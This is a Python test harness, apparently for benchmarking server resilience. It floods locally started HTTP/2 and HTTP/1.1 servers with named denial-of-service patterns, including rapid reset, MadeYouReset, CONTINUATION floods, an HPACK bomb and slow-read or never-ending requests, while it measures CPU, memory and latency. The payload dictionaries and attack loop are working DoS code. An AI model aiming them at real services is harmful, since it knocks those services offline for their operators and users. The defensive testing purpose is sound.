"""What a bad client costs: floods over real sockets, and what becomes of the server meanwhile.

Each flood keeps eight connections busy for some seconds, and begins one anew when it is ended.
Beside it another client asks every 20 ms. Told are: how often the server ended a connection, its
processor time for each second, how far its memory grew, and what the other client waited for, at
the worst and in the middle.
"""

import os
import struct
import threading
import time

import peers
from upstream import Upstream
from wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PREFACE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, Ended, Silence, Wire, block, field, frame,
)

WORKERS = 8
WHOLE = END_HEADERS | END_STREAM
GET = block([(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", peers.HOST)])
LARGE = GET.replace(b"\x01/", b"\x06/large")
POST = GET.replace(b"\x03GET", b"\x04POST")


def head(stream, flags=WHOLE, fields=GET):
    return frame(HEADERS, flags, stream, fields)


def window(stream, size):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def same(data):
    """The same bytes again and again."""
    def pieces():
        while True:
            yield data
    return pieces


def streams(each):
    """Something for each new stream."""
    def pieces():
        stream = 1
        while stream < 1 << 30:
            yield b"".join(each(at) for at in range(stream, stream + 64, 2))
            stream += 64
    return pieces


def once(data):
    """Once; then it is only waited."""
    def pieces():
        yield data
        while True:
            yield b""
    return pieces


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


HTTP2 = {
    "PING": same(frame(PING, 0, 0, b"\0" * 8) * 64),
    "SETTINGS": same(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * 64),
    "PRIORITY": same(frame(2, 0, 5, b"\0\0\0\x03\x10") * 64),
    "WINDOW_UPDATE": same(window(0, 1) * 64),
    "empty DATA": lambda: (
        head(1, END_HEADERS, POST) if not at else frame(DATA, 0, 1) * 64 for at in range(1 << 30)),
    "unknown frames": same(frame(0x77, 0, 0, b"x") * 64),
    "rapid reset (CVE-2023-44487)": streams(lambda at: head(at) + reset(at)),
    "MadeYouReset (CVE-2025-8671)": streams(lambda at: head(at) + window(at, 0)),
    "MadeYouReset by window overflow": streams(
        lambda at: head(at) + window(at, 0x7FFFFFFF) + window(at, 0x7FFFFFFF)),
    "MadeYouReset by DATA behind the end": streams(lambda at: head(at) + frame(DATA, 0, at, b"x")),
    "CONTINUATION (CVE-2024-27316)": lambda: (
        frame(HEADERS, END_STREAM, 1, GET) if not at else
        frame(CONTINUATION, 0, 1, field(f"x-{at}", "a" * 1000)) * 8 for at in range(1 << 30)),
    "empty CONTINUATION": lambda: (
        frame(HEADERS, END_STREAM, 1, GET) if not at else frame(CONTINUATION, 0, 1) * 64
        for at in range(1 << 30)),
    # One entry of 4,000 bytes in the table, then two bytes for each time it is named again.
    "an HPACK bomb": streams(
        lambda at: head(at, fields=GET + (
            b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000 if at == 1 else b"") + b"\xbe" * 4000)),
    "responses that nobody reads": once(
        b"".join(head(at, fields=LARGE) for at in range(1, 200, 2))),
    "a window of 0": once(
        frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
        + b"".join(head(at, fields=LARGE) for at in range(1, 200, 2))),
    "a window of 1": once(
        frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 1))
        + b"".join(head(at, fields=LARGE) for at in range(1, 200, 2))),
}
HTTP1 = {
    "a head that never ends": lambda: (
        b"GET / HTTP/1.1\r\n" if not at else b"X-%d: %s\r\n" % (at, b"a" * 1000)
        for at in range(1 << 30)),
    "a body in chunks of 1 byte": lambda: (
        b"POST / HTTP/1.1\r\nHost: example.test\r\nTransfer-Encoding: chunked\r\n\r\n" if not at
        else b"1\r\na\r\n" * 1000 for at in range(1 << 30)),
    "requests whose answers nobody reads": same(b"GET / HTTP/1.1\r\nHost: example.test\r\n\r\n" * 32),
}


class Cost:
    """What a process uses."""

    def __init__(self, pid):
        self.pid = pid

    def members(self):
        """It and its children."""
        out = [self.pid]
        try:
            with open(f"/proc/{self.pid}/task/{self.pid}/children", encoding="ascii") as text:
                out += [int(child) for child in text.read().split()]
        except OSError:
            pass
        return out

    def seconds(self):
        total = 0
        for pid in self.members():
            try:
                with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as text:
                    parts = text.read().rsplit(")", 1)[1].split()
                total += int(parts[11]) + int(parts[12])
            except OSError:
                pass
        return total / os.sysconf("SC_CLK_TCK")

    def memory(self):
        total = 0
        for pid in self.members():
            try:
                with open(f"/proc/{pid}/statm", encoding="ascii") as text:
                    total += int(text.read().split()[1])
            except OSError:
                pass
        return total * os.sysconf("SC_PAGE_SIZE") / (1 << 20)


def attack(address, alpn, pieces, until, tally, reads):
    while time.monotonic() < until:
        try:
            wire = Wire(address, peers.HOST, alpn, 1)
        except OSError:
            time.sleep(0.05)
            continue
        try:
            plain = wire.socket
            plain.settimeout(0.5)
            if alpn == "h2":
                plain.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for piece in pieces():
                if time.monotonic() >= until:
                    break
                if piece:
                    try:
                        plain.sendall(piece)
                        tally["sent"] += len(piece)
                    except TimeoutError:
                        break  # it takes no more: that is its right
                else:
                    time.sleep(0.05)
                if reads:
                    try:
                        while True:
                            wire.receive(time.monotonic())
                    except Silence:
                        pass
        except (OSError, Ended):
            tally["ended"] += 1
        finally:
            wire.close()


def beside(address, until, waits):
    while time.monotonic() < until:
        begin = time.monotonic()
        try:
            wire = Wire(address, peers.HOST, "http/1.1", 5)
            wire.send(b"GET / HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n\r\n")
            got = wire.receive(begin + 5)
            waits.append(time.monotonic() - begin if b" 200 " in got else 9)
            wire.close()
        except (OSError, Silence, Ended):
            waits.append(9)
        time.sleep(0.02)


def run(name, binary, folder, only, seconds=4):
    upstream = Upstream()
    body = b"x" * (4 << 20)
    upstream.script("/large", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body,
                    False)
    floods = [("h2", title, pieces) for title, pieces in HTTP2.items()]
    floods += [("http/1.1", title, pieces) for title, pieces in HTTP1.items()]
    for alpn, title, pieces in floods:
        if only not in title:
            continue
        peer = peers.start(name, binary, folder, upstream.port)
        if peer is None:
            print(f"{name} does not start")
            return
        address = ("127.0.0.1", peer.port)
        cost, waits, tally = Cost(peer.process.pid), [], {"sent": 0, "ended": 0}
        beside(address, time.monotonic() + 0.2, [])
        before, memory, most = cost.seconds(), cost.memory(), 0
        until = time.monotonic() + seconds
        reads = "nobody" not in title and "window of" not in title
        threads = [
            threading.Thread(target=attack, args=(address, alpn, pieces, until, tally, reads))
            for _ in range(WORKERS)
        ] + [threading.Thread(target=beside, args=(address, until, waits))]
        for thread in threads:
            thread.start()
        while any(thread.is_alive() for thread in threads):
            most = max(most, cost.memory())
            time.sleep(0.05)
        used = (cost.seconds() - before) / seconds
        waits.sort()
        ended = "the server has ended" if peer.process.poll() is not None else ""
        print(f"{name:8} {title:38} {tally['sent'] / (1 << 20):8.1f} MiB sent "
              f"{tally['ended']:6} ended {100 * used:5.0f} % cpu {most - memory:+7.1f} MiB "
              f"{1000 * waits[len(waits) // 2]:6.0f} ms, worst {1000 * waits[-1]:6.0f} ms "
              f"{ended}", flush=True)
        peer.stop()
        upstream.forget()
